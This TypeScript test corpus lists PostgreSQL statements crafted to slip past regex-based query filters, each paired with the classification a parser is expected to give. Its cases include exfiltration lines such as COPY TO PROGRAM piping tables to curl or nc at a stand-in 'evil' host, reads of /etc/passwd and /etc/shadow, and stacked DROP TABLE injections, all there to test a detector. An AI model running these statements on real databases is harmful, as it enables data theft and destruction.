import type { SqlAccess, SqlClassificationErrorCode, SqlFlag, SqlKind } from '../index.js';

// Bypass corpus: SQL that defeats regex-based policy rules, each with the classification the
// real parser must produce. Only the essentials are pinned: the overall kind, the commands in
// order, flags that must (and must not) be present, objects and functions that must be listed.

export interface ExpectedObject {
  schema?: string;
  name: string;
  access: SqlAccess;
}

export type CorpusExpectation =
  | {
      ok: true;
      kind: SqlKind;
      commands?: string[];
      flags?: SqlFlag[];
      absentFlags?: SqlFlag[];
      objects?: ExpectedObject[];
      functions?: string[];
      multiStatement?: boolean;
    }
  | { ok: false; code: SqlClassificationErrorCode };

export interface CorpusCase {
  name: string;
  sql: string;
  expect: CorpusExpectation;
}

const w = (name: string, schema?: string): ExpectedObject => (schema === undefined ? { name, access: 'write' } : { schema, name, access: 'write' });
const r = (name: string, schema?: string): ExpectedObject => (schema === undefined ? { name, access: 'read' } : { schema, name, access: 'read' });
const d = (name: string, schema?: string): ExpectedObject => (schema === undefined ? { name, access: 'ddl' } : { schema, name, access: 'ddl' });
const parseError = { ok: false, code: 'SQL_PARSE_ERROR' } as const;

export const BYPASS_CORPUS: readonly CorpusCase[] = [
  // --- comments inside and between keywords -------------------------------------------------
  { name: 'comment between DELETE and FROM', sql: 'DELETE/**/FROM users', expect: { ok: true, kind: 'write', commands: ['DELETE'], flags: ['delete-without-where'], objects: [w('users')] } },
  { name: 'comment splitting DELETE', sql: 'DEL/**/ETE FROM users', expect: parseError },
  { name: 'comment splitting SELECT', sql: 'SEL/**/ECT 1', expect: parseError },
  { name: 'nested block comments', sql: 'DELETE /* a /* b */ c */ FROM users WHERE id = 1', expect: { ok: true, kind: 'write', commands: ['DELETE'], objects: [w('users')], absentFlags: ['delete-without-where'] } },
  { name: 'line comment hides nothing after newline', sql: 'SELECT 1 -- harmless\n; DROP TABLE users', expect: { ok: true, kind: 'ddl', commands: ['SELECT', 'DROP TABLE'], objects: [d('users')], multiStatement: true } },
  { name: 'comment instead of spaces everywhere', sql: 'UPDATE/**/users/**/SET/**/admin=true', expect: { ok: true, kind: 'write', commands: ['UPDATE'], flags: ['update-without-where'], objects: [w('users')] } },
  { name: 'comment before statement', sql: '/* read only */ DELETE FROM audit_log', expect: { ok: true, kind: 'write', commands: ['DELETE'], objects: [w('audit_log')] } },
  { name: 'unterminated comment', sql: 'SELECT 1 /* DELETE FROM t', expect: parseError },
  { name: 'comment in table name position', sql: 'SELECT * FROM/*x*/secrets', expect: { ok: true, kind: 'read', objects: [r('secrets')] } },
  { name: 'comment inside qualified name', sql: 'DROP TABLE public/**/./**/users', expect: { ok: true, kind: 'ddl', commands: ['DROP TABLE'], objects: [d('users', 'public')] } },

  // --- casing, quoting, whitespace ------------------------------------------------------------
  { name: 'mixed case delete', sql: 'dElEtE fRoM users', expect: { ok: true, kind: 'write', commands: ['DELETE'], flags: ['delete-without-where'] } },
  { name: 'quoted schema and table', sql: 'DELETE FROM "public"."Users" WHERE id = 5', expect: { ok: true, kind: 'write', objects: [w('Users', 'public')] } },
  { name: 'unquoted names fold to lower case', sql: 'DELETE FROM PUBLIC.USERS WHERE id = 5', expect: { ok: true, kind: 'write', objects: [w('users', 'public')] } },
  { name: 'quoted name with spaces', sql: 'UPDATE "my table" SET a = 1 WHERE b = 2', expect: { ok: true, kind: 'write', objects: [w('my table')] } },
  { name: 'newline between DELETE and FROM', sql: 'DELETE\nFROM\nusers', expect: { ok: true, kind: 'write', flags: ['delete-without-where'] } },
  { name: 'tabs and CRLF', sql: 'DELETE\tFROM\r\nusers\r\nWHERE\t1=1', expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'vertical tab is whitespace in PostgreSQL 18', sql: 'DROP\fTABLE\vusers', expect: { ok: true, kind: 'ddl', commands: ['DROP TABLE'], objects: [d('users')] } },
  { name: 'form feed is whitespace', sql: 'DROP\fTABLE users', expect: { ok: true, kind: 'ddl', commands: ['DROP TABLE'] } },
  { name: 'leading whitespace and semicolons', sql: '  ;; \n DELETE FROM users;;', expect: { ok: true, kind: 'write', commands: ['DELETE'], multiStatement: false } },
  { name: 'keyword as quoted identifier is not a command', sql: 'SELECT "delete" FROM "drop"', expect: { ok: true, kind: 'read', commands: ['SELECT'], objects: [r('drop')] } },
  { name: 'unicode escaped identifier spells delete', sql: 'SELECT U&"\\0064elete" FROM t', expect: { ok: true, kind: 'read', commands: ['SELECT'] } },
  { name: 'unicode escaped table name', sql: 'DELETE FROM U&"\\0075sers"', expect: { ok: true, kind: 'write', objects: [w('users')] } },
  { name: 'unicode escape with custom escape char', sql: 'DROP TABLE U&"!0075sers" UESCAPE \'!\'', expect: { ok: true, kind: 'ddl', objects: [d('users')] } },
  { name: 'unicode escapes cannot form keywords', sql: 'U&"\\0064elete" FROM users', expect: parseError },
  { name: 'catalog qualified name', sql: 'DELETE FROM mydb.public.users WHERE id=1', expect: { ok: true, kind: 'write', objects: [w('users', 'mydb.public')] } },
  { name: 'full-width characters are not keywords', sql: 'ＤＥＬＥＴＥ FROM users', expect: parseError },

  // --- stacked statements and transaction escapes ---------------------------------------------
  { name: 'stacked select then delete', sql: 'SELECT 1; DELETE FROM users', expect: { ok: true, kind: 'write', commands: ['SELECT', 'DELETE'], multiStatement: true } },
  { name: 'commit escape from read only', sql: 'COMMIT; DROP TABLE users', expect: { ok: true, kind: 'ddl', commands: ['COMMIT', 'DROP TABLE'], flags: ['transaction-escape', 'transaction-end'] } },
  { name: 'end escape', sql: 'SELECT 1; END; DELETE FROM users', expect: { ok: true, kind: 'write', commands: ['SELECT', 'COMMIT', 'DELETE'], flags: ['transaction-escape'] } },
  { name: 'abort escape', sql: 'ABORT; BEGIN READ WRITE; DELETE FROM users', expect: { ok: true, kind: 'write', commands: ['ROLLBACK', 'BEGIN', 'DELETE'], flags: ['transaction-escape', 'transaction-read-write'] } },
  { name: 'rollback escape', sql: 'ROLLBACK; UPDATE users SET admin = true', expect: { ok: true, kind: 'write', flags: ['transaction-escape', 'update-without-where'] } },
  { name: 'commit and chain', sql: 'COMMIT AND CHAIN; DELETE FROM t', expect: { ok: true, kind: 'write', flags: ['transaction-escape'] } },
  { name: 'prepare transaction', sql: "SELECT 1; PREPARE TRANSACTION 'x'", expect: { ok: true, kind: 'transaction', commands: ['SELECT', 'PREPARE TRANSACTION'], flags: ['transaction-escape'] } },
  { name: 'lone commit ends transaction', sql: 'COMMIT', expect: { ok: true, kind: 'transaction', commands: ['COMMIT'], flags: ['transaction-end'], absentFlags: ['transaction-escape'], multiStatement: false } },
  { name: 'begin read write', sql: 'BEGIN READ WRITE', expect: { ok: true, kind: 'transaction', flags: ['transaction-read-write'] } },
  { name: 'start transaction read only is fine', sql: 'START TRANSACTION READ ONLY', expect: { ok: true, kind: 'transaction', absentFlags: ['transaction-read-write'] } },
  { name: 'set transaction read write', sql: 'SET TRANSACTION READ WRITE', expect: { ok: true, kind: 'transaction', commands: ['SET TRANSACTION'], flags: ['transaction-read-write'] } },
  { name: 'session characteristics read write', sql: 'SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', expect: { ok: true, kind: 'utility', flags: ['transaction-read-write'] } },
  { name: 'transaction_read_only off', sql: 'SET transaction_read_only = off', expect: { ok: true, kind: 'utility', flags: ['transaction-read-write'] } },
  { name: 'default_transaction_read_only false', sql: "SET default_transaction_read_only TO 'false'", expect: { ok: true, kind: 'utility', flags: ['transaction-read-write'] } },
  { name: 'savepoint and rollback to', sql: 'SAVEPOINT a; ROLLBACK TO SAVEPOINT a', expect: { ok: true, kind: 'transaction', commands: ['SAVEPOINT', 'ROLLBACK TO SAVEPOINT'], absentFlags: ['transaction-escape'] } },
  { name: 'empty statements between', sql: 'SELECT 1;;;DELETE FROM t', expect: { ok: true, kind: 'write', commands: ['SELECT', 'DELETE'] } },
  { name: 'only semicolons', sql: ';;', expect: { ok: true, kind: 'read', commands: [], multiStatement: false } },
  { name: 'empty string', sql: '', expect: { ok: true, kind: 'read', commands: [] } },
  { name: 'whitespace only', sql: ' \n\t ', expect: { ok: true, kind: 'read', commands: [] } },
  { name: 'statement after line comment on same line stays comment', sql: 'SELECT 1 -- ; DELETE FROM users', expect: { ok: true, kind: 'read', commands: ['SELECT'] } },
  { name: 'semicolon inside string is not a separator', sql: "SELECT '; DELETE FROM users'", expect: { ok: true, kind: 'read', commands: ['SELECT'], multiStatement: false } },
  { name: 'semicolon inside quoted identifier', sql: 'SELECT 1 AS "; DROP TABLE users"', expect: { ok: true, kind: 'read', commands: ['SELECT'] } },

  // --- writable CTEs and nesting --------------------------------------------------------------
  { name: 'delete in CTE', sql: 'WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x', expect: { ok: true, kind: 'write', commands: ['SELECT'], flags: ['dml-in-cte', 'delete-without-where'], objects: [w('users')] } },
  { name: 'update in CTE', sql: 'WITH u AS (UPDATE accounts SET balance = 0 WHERE true RETURNING id) SELECT count(*) FROM u', expect: { ok: true, kind: 'write', flags: ['dml-in-cte', 'constant-true-where'], objects: [w('accounts')] } },
  { name: 'insert in CTE', sql: "WITH i AS (INSERT INTO admins(name) VALUES ('eve') RETURNING 1) SELECT 1", expect: { ok: true, kind: 'write', flags: ['dml-in-cte'], objects: [w('admins')] } },
  { name: 'nested CTE inside subquery', sql: 'SELECT * FROM (WITH d AS (DELETE FROM logs RETURNING 1) SELECT * FROM d) s', expect: { ok: true, kind: 'write', flags: ['dml-in-cte'], objects: [w('logs')] } },
  { name: 'CTE in CTE', sql: 'WITH a AS (WITH b AS (DELETE FROM t RETURNING *) SELECT * FROM b) SELECT * FROM a', expect: { ok: true, kind: 'write', flags: ['dml-in-cte'] } },
  { name: 'CTE name is not a table read', sql: 'WITH x AS (SELECT 1) SELECT * FROM x', expect: { ok: true, kind: 'read', absentFlags: ['dml-in-cte'] } },
  { name: 'out of scope CTE name is a real table', sql: 'SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) a, secrets', expect: { ok: true, kind: 'read', objects: [r('secrets')] } },
  { name: 'non-recursive CTE cannot see itself', sql: 'WITH users AS (SELECT * FROM users) SELECT * FROM users', expect: { ok: true, kind: 'read', objects: [r('users')] } },
  { name: 'DML CTE attached to insert', sql: 'WITH d AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM d', expect: { ok: true, kind: 'write', flags: ['dml-in-cte'], objects: [w('a'), w('b')] } },
  { name: 'merge statement', sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', expect: { ok: true, kind: 'write', commands: ['MERGE'], objects: [w('t'), r('s')] } },
  { name: 'merge on true', sql: 'MERGE INTO t USING s ON true WHEN MATCHED THEN UPDATE SET a = 1', expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'insert select from secrets', sql: 'INSERT INTO public_dump SELECT * FROM secrets', expect: { ok: true, kind: 'write', objects: [w('public_dump'), r('secrets')] } },
  { name: 'update from join', sql: 'UPDATE a SET x = b.x FROM b WHERE a.id = b.id', expect: { ok: true, kind: 'write', objects: [w('a'), r('b')] } },
  { name: 'delete using', sql: 'DELETE FROM a USING b WHERE a.id = b.id', expect: { ok: true, kind: 'write', objects: [w('a'), r('b')] } },
  { name: 'insert on conflict do update', sql: 'INSERT INTO t (id, v) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET v = excluded.v', expect: { ok: true, kind: 'write', objects: [w('t')] } },
  { name: 'union of reads', sql: 'SELECT a FROM t1 UNION ALL SELECT b FROM t2', expect: { ok: true, kind: 'read', objects: [r('t1'), r('t2')] } },
  { name: 'union branch calls dangerous function', sql: "SELECT 1 UNION SELECT length(pg_read_file('/etc/shadow'))", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'subquery in where', sql: 'SELECT * FROM a WHERE id IN (SELECT id FROM secret_ids)', expect: { ok: true, kind: 'read', objects: [r('a'), r('secret_ids')] } },
  { name: 'TABLE shorthand', sql: 'TABLE users', expect: { ok: true, kind: 'read', objects: [r('users')] } },
  { name: 'VALUES', sql: 'VALUES (1), (2)', expect: { ok: true, kind: 'read', commands: ['SELECT'] } },

  // --- DO blocks and dollar quoting -----------------------------------------------------------
  { name: 'DO block', sql: 'DO $$ BEGIN DELETE FROM users; END $$', expect: { ok: true, kind: 'utility', commands: ['DO'], flags: ['do-block'] } },
  { name: 'DO block with tag', sql: 'DO $x$ BEGIN EXECUTE $y$DROP TABLE users$y$; END $x$', expect: { ok: true, kind: 'utility', flags: ['do-block'] } },
  { name: 'DO with language', sql: "DO LANGUAGE plpgsql 'BEGIN PERFORM 1; END'", expect: { ok: true, kind: 'utility', flags: ['do-block'] } },
  { name: 'lower case do', sql: 'do $$begin perform pg_sleep(10); end$$', expect: { ok: true, kind: 'utility', flags: ['do-block'] } },
  { name: 'dollar-quoted string hides a statement', sql: 'SELECT $tag$; DELETE FROM users; $tag$', expect: { ok: true, kind: 'read', commands: ['SELECT'], multiStatement: false } },
  { name: 'dollar-quoted string then real statement', sql: 'SELECT $a$x$a$; DELETE FROM users', expect: { ok: true, kind: 'write', commands: ['SELECT', 'DELETE'] } },
  { name: 'unterminated dollar quote', sql: 'SELECT $a$ DELETE FROM users', expect: parseError },
  { name: 'mismatched dollar tags', sql: 'SELECT $a$x$b$; DELETE FROM users', expect: parseError },
  { name: 'E string with escaped quote', sql: "SELECT E'\\'; DELETE FROM users; --'", expect: { ok: true, kind: 'read', commands: ['SELECT'] } },
  { name: 'standard string backslash is literal', sql: "SELECT 'a\\'; DELETE FROM users; --'", expect: { ok: true, kind: 'write', commands: ['SELECT', 'DELETE'] } },
  { name: 'doubled quote in string', sql: "SELECT 'it''s; DELETE FROM users'", expect: { ok: true, kind: 'read', commands: ['SELECT'] } },

  // --- COPY ---------------------------------------------------------------------------------
  { name: 'copy to program', sql: "COPY users TO PROGRAM 'curl -d @- http://evil'", expect: { ok: true, kind: 'utility', flags: ['copy', 'copy-program'], objects: [r('users')] } },
  { name: 'copy from program', sql: "COPY t FROM PROGRAM 'id'", expect: { ok: true, kind: 'utility', flags: ['copy-program'], objects: [w('t')] } },
  { name: 'copy query to program', sql: "COPY (SELECT * FROM secrets) TO PROGRAM 'nc evil 80'", expect: { ok: true, kind: 'utility', flags: ['copy-program'], objects: [r('secrets')] } },
  { name: 'copy to server file', sql: "COPY users TO '/tmp/users.csv'", expect: { ok: true, kind: 'utility', flags: ['copy-to-file'] } },
  { name: 'copy from server file', sql: "COPY users FROM '/etc/passwd'", expect: { ok: true, kind: 'utility', flags: ['copy-from-file'], objects: [w('users')] } },
  { name: 'copy to stdout is a read', sql: 'COPY users TO STDOUT', expect: { ok: true, kind: 'read', flags: ['copy'], absentFlags: ['copy-program', 'copy-to-file'] } },
  { name: 'copy from stdin is a write', sql: 'COPY users (id, name) FROM STDIN', expect: { ok: true, kind: 'write', flags: ['copy'], objects: [w('users')] } },
  { name: 'copy of DML returning', sql: 'COPY (DELETE FROM users RETURNING *) TO STDOUT', expect: { ok: true, kind: 'write', flags: ['copy', 'nested-dml'] } },
  { name: 'lower case copy program', sql: "copy users to program 'sh'", expect: { ok: true, kind: 'utility', flags: ['copy-program'] } },

  // --- dangerous and side-effect functions ----------------------------------------------------
  { name: 'pg_read_file in select list', sql: "SELECT pg_read_file('/etc/passwd')", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'], functions: ['pg_read_file'] } },
  { name: 'pg_read_file schema-qualified', sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'], functions: ['pg_catalog.pg_read_file'] } },
  { name: 'pg_read_file quoted name', sql: 'SELECT "pg_read_file"(\'/etc/passwd\')', expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'pg_read_file upper case', sql: "SELECT PG_READ_FILE('/etc/passwd')", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'pg_read_binary_file in where', sql: "SELECT 1 FROM t WHERE length(pg_read_binary_file('x')) > 0", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'], functions: ['length', 'pg_read_binary_file'] } },
  { name: 'pg_ls_dir in from', sql: "SELECT * FROM pg_ls_dir('/')", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'lateral join function', sql: "SELECT * FROM t, LATERAL pg_stat_file(t.path) f", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'], functions: ['pg_stat_file'] } },
  { name: 'nested function arguments', sql: "SELECT upper(lower(coalesce(pg_read_file('/x'), '')))", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'], functions: ['lower', 'pg_read_file', 'upper'] } },
  { name: 'function in order by', sql: "SELECT * FROM t ORDER BY pg_terminate_backend(1)", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'function in CTE', sql: "WITH x AS (SELECT lo_import('/etc/passwd')) SELECT * FROM x", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'function in scalar subquery', sql: "SELECT (SELECT pg_reload_conf())", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'function in case expression', sql: "SELECT CASE WHEN x THEN pg_cancel_backend(42) END FROM t", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'function in insert values', sql: "INSERT INTO loot VALUES (pg_read_file('/etc/passwd'))", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'], objects: [w('loot')] } },
  { name: 'function in update set', sql: "UPDATE t SET v = lo_export(1, '/tmp/x') WHERE id = 1", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'function in column default', sql: "CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))", expect: { ok: true, kind: 'utility', commands: ['CREATE TABLE'], flags: ['dangerous-function'] } },
  { name: 'function in alter column default', sql: "ALTER TABLE t ALTER COLUMN a SET DEFAULT set_config('role', 'admin', false)", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'function in check constraint', sql: 'ALTER TABLE t ADD CONSTRAINT c CHECK (pg_rotate_logfile())', expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'dblink', sql: "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'dblink_exec', sql: "SELECT dblink_exec('dbname=prod', 'DROP TABLE users')", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'set_config', sql: "SELECT set_config('search_path', 'evil', false)", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'pg_file_write', sql: "SELECT pg_file_write('/tmp/x', 'data', false)", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'query_to_xml runs SQL text', sql: "SELECT query_to_xml('DELETE FROM users RETURNING *', true, true, '')", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'function in aggregate filter', sql: "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM t", expect: { ok: true, kind: 'write', flags: ['side-effect-function'] } },
  { name: 'function in window definition', sql: 'SELECT row_number() OVER (ORDER BY nextval(\'s\')) FROM t', expect: { ok: true, kind: 'write', flags: ['side-effect-function'] } },
  { name: 'nextval', sql: "SELECT nextval('orders_id_seq')", expect: { ok: true, kind: 'write', flags: ['side-effect-function'] } },
  { name: 'setval', sql: "SELECT setval('orders_id_seq', 1)", expect: { ok: true, kind: 'write', flags: ['side-effect-function'] } },
  { name: 'pg_notify', sql: "SELECT pg_notify('ch', 'payload')", expect: { ok: true, kind: 'write', flags: ['side-effect-function', 'notify'] } },
  { name: 'advisory lock', sql: 'SELECT pg_advisory_lock(1)', expect: { ok: true, kind: 'write', flags: ['side-effect-function'] } },
  { name: 'known read-only functions', sql: 'SELECT count(*), max(a), lower(b), now() FROM t', expect: { ok: true, kind: 'read', absentFlags: ['unrecognised-function', 'dangerous-function'] } },
  { name: 'user-defined function is unrecognised', sql: 'SELECT purge_all_data()', expect: { ok: true, kind: 'read', flags: ['unrecognised-function'], functions: ['purge_all_data'] } },
  { name: 'function in join condition', sql: "SELECT * FROM a JOIN b ON pg_read_file('/x') IS NOT NULL", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'function in group by and having', sql: "SELECT a FROM t GROUP BY a HAVING count(pg_ls_dir('.')) > 0", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'function in returning', sql: "DELETE FROM t WHERE id = 1 RETURNING pg_read_file('/etc/hosts')", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'function in limit', sql: 'SELECT * FROM t LIMIT pg_backend_pid() + nextval(\'s\')', expect: { ok: true, kind: 'write', flags: ['side-effect-function'] } },
  { name: 'function in values list of insert select', sql: "INSERT INTO t SELECT pg_read_file(f) FROM files", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'], objects: [w('t'), r('files')] } },
  { name: 'function in array subscript', sql: "SELECT (ARRAY[1,2])[pg_cancel_backend(1)::int]", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'function inside json expression', sql: "SELECT json_build_object('k', pg_read_file('/x'))", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },

  // --- tautologies ----------------------------------------------------------------------------
  { name: 'where 1=1', sql: 'DELETE FROM users WHERE 1=1', expect: { ok: true, kind: 'write', flags: ['constant-true-where'], absentFlags: ['delete-without-where'] } },
  { name: 'where true', sql: 'UPDATE users SET admin = true WHERE true', expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'where string equality', sql: "DELETE FROM users WHERE 'a'='a'", expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'where not false', sql: 'DELETE FROM users WHERE NOT false', expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'where x or true', sql: 'DELETE FROM users WHERE id = 5 OR true', expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'where 2 > 1', sql: 'DELETE FROM users WHERE 2 > 1', expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'where arithmetic', sql: 'DELETE FROM users WHERE 1 + 1 = 2', expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'where column equals itself', sql: 'DELETE FROM users WHERE id = id', expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'where p or not p', sql: "DELETE FROM users WHERE name = 'x' OR NOT name = 'x'", expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'where is null or is not null', sql: 'DELETE FROM users WHERE email IS NULL OR email IS NOT NULL', expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'where like percent', sql: "DELETE FROM users WHERE name LIKE '%'", expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'where cast true', sql: "DELETE FROM users WHERE 't'::boolean", expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'where exists select 1', sql: 'DELETE FROM users WHERE EXISTS (SELECT 1)', expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'where not equal constants', sql: 'UPDATE users SET a = 1 WHERE 1 <> 2', expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'where true and true', sql: 'DELETE FROM users WHERE true AND 1 = 1', expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'where IS TRUE', sql: 'DELETE FROM users WHERE (1=1) IS TRUE', expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'where in list of constants', sql: 'DELETE FROM users WHERE 1 IN (1, 2)', expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'where between constants', sql: 'DELETE FROM users WHERE 5 BETWEEN 1 AND 10', expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'where typed literal comparison', sql: "DELETE FROM users WHERE '1' = 1", expect: { ok: true, kind: 'write', flags: ['constant-true-where'] } },
  { name: 'tautology in select is flagged too', sql: "SELECT * FROM users WHERE name = '' OR 1=1", expect: { ok: true, kind: 'read', flags: ['constant-true-where'] } },
  { name: 'real predicate is not a tautology', sql: 'DELETE FROM users WHERE id = 42', expect: { ok: true, kind: 'write', absentFlags: ['constant-true-where', 'delete-without-where'] } },
  { name: 'constant false is not a tautology', sql: 'DELETE FROM users WHERE 1 = 2', expect: { ok: true, kind: 'write', absentFlags: ['constant-true-where'] } },
  { name: 'true and real predicate is not a tautology', sql: 'DELETE FROM users WHERE true AND id = 3', expect: { ok: true, kind: 'write', absentFlags: ['constant-true-where'] } },
  { name: 'update without where', sql: 'UPDATE users SET password_hash = NULL', expect: { ok: true, kind: 'write', flags: ['update-without-where'], objects: [w('users')] } },
  { name: 'delete without where', sql: 'DELETE FROM users', expect: { ok: true, kind: 'write', flags: ['delete-without-where'] } },

  // --- prepared statements --------------------------------------------------------------------
  { name: 'prepare delete then execute', sql: 'PREPARE p AS DELETE FROM users; EXECUTE p', expect: { ok: true, kind: 'write', commands: ['PREPARE', 'EXECUTE'], flags: ['prepare', 'execute', 'delete-without-where'], objects: [w('users')] } },
  { name: 'prepare with parameters', sql: 'PREPARE p(int) AS UPDATE users SET admin = true WHERE id = $1', expect: { ok: true, kind: 'write', commands: ['PREPARE'], flags: ['prepare'] } },
  { name: 'prepare of dangerous select', sql: "PREPARE p AS SELECT pg_read_file('/etc/passwd')", expect: { ok: true, kind: 'utility', flags: ['prepare', 'dangerous-function'] } },
  { name: 'execute of unknown prepared statement', sql: 'EXECUTE mystery(1)', expect: { ok: true, kind: 'utility', flags: ['execute', 'unknown-prepared-statement'] } },
  { name: 'create table as execute', sql: 'PREPARE p AS SELECT * FROM secrets; CREATE TABLE loot AS EXECUTE p', expect: { ok: true, kind: 'ddl', commands: ['PREPARE', 'CREATE TABLE AS'], objects: [d('loot'), r('secrets')] } },
  { name: 'explain execute', sql: 'EXPLAIN ANALYZE EXECUTE unknown_one', expect: { ok: true, kind: 'utility', flags: ['explain-analyze', 'unknown-prepared-statement'] } },
  { name: 'deallocate', sql: 'DEALLOCATE ALL', expect: { ok: true, kind: 'utility', commands: ['DEALLOCATE'] } },

  // --- EXPLAIN --------------------------------------------------------------------------------
  { name: 'explain analyze delete executes it', sql: 'EXPLAIN ANALYZE DELETE FROM users', expect: { ok: true, kind: 'write', commands: ['DELETE'], flags: ['explain-analyze', 'delete-without-where'] } },
  { name: 'explain (analyze) option list', sql: 'EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET a = 1', expect: { ok: true, kind: 'write', flags: ['explain-analyze'] } },
  { name: 'explain (analyze true)', sql: 'EXPLAIN (ANALYZE true) DELETE FROM t', expect: { ok: true, kind: 'write', flags: ['explain-analyze'] } },
  { name: 'explain (analyze on) lower case', sql: 'explain (analyze on, format json) insert into t values (1)', expect: { ok: true, kind: 'write', flags: ['explain-analyze'] } },
  { name: 'explain analyze select with dangerous function', sql: "EXPLAIN ANALYZE SELECT pg_read_file('/x')", expect: { ok: true, kind: 'utility', flags: ['explain-analyze', 'dangerous-function'] } },
  { name: 'explain without analyze only plans', sql: 'EXPLAIN DELETE FROM users', expect: { ok: true, kind: 'read', commands: ['EXPLAIN'], absentFlags: ['explain-analyze'] } },
  { name: 'explain (analyze false)', sql: 'EXPLAIN (ANALYZE false) DELETE FROM users', expect: { ok: true, kind: 'read', commands: ['EXPLAIN'], absentFlags: ['explain-analyze'] } },
  { name: 'explain analyze create table as', sql: 'EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM secrets', expect: { ok: true, kind: 'ddl', flags: ['explain-analyze'], objects: [d('x'), r('secrets')] } },

  // --- SELECT INTO, CREATE TABLE AS, locking ------------------------------------------------
  { name: 'select into creates a table', sql: 'SELECT * INTO loot FROM secrets', expect: { ok: true, kind: 'ddl', commands: ['SELECT INTO'], flags: ['select-into'], objects: [d('loot'), r('secrets')] } },
  { name: 'select into temp', sql: 'SELECT id INTO TEMP t2 FROM users', expect: { ok: true, kind: 'ddl', flags: ['select-into'] } },
  { name: 'create table as', sql: 'CREATE TABLE loot AS SELECT * FROM secrets', expect: { ok: true, kind: 'ddl', commands: ['CREATE TABLE AS'], objects: [d('loot'), r('secrets')] } },
  { name: 'create materialized view', sql: 'CREATE MATERIALIZED VIEW mv AS SELECT * FROM t', expect: { ok: true, kind: 'ddl', commands: ['CREATE MATERIALIZED VIEW'] } },
  { name: 'select for update locks', sql: 'SELECT * FROM accounts WHERE id = 1 FOR UPDATE', expect: { ok: true, kind: 'write', commands: ['SELECT'], flags: ['row-lock'], objects: [w('accounts')] } },
  { name: 'select for share', sql: 'SELECT * FROM accounts FOR SHARE NOWAIT', expect: { ok: true, kind: 'write', flags: ['row-lock'] } },
  { name: 'lock table', sql: 'LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE', expect: { ok: true, kind: 'write', commands: ['LOCK'], objects: [w('accounts')] } },

  // --- DDL, DCL, utility: deliberate kinds ------------------------------------------------------
  { name: 'drop table', sql: 'DROP TABLE IF EXISTS users CASCADE', expect: { ok: true, kind: 'ddl', commands: ['DROP TABLE'], objects: [d('users')] } },
  { name: 'truncate', sql: 'TRUNCATE users, orders RESTART IDENTITY', expect: { ok: true, kind: 'write', commands: ['TRUNCATE'], objects: [w('users'), w('orders')] } },
  { name: 'truncate without table keyword lower case', sql: 'truncate public.users', expect: { ok: true, kind: 'write', objects: [w('users', 'public')] } },
  { name: 'alter table', sql: 'ALTER TABLE users ADD COLUMN x int', expect: { ok: true, kind: 'ddl', commands: ['ALTER TABLE'], objects: [d('users')] } },
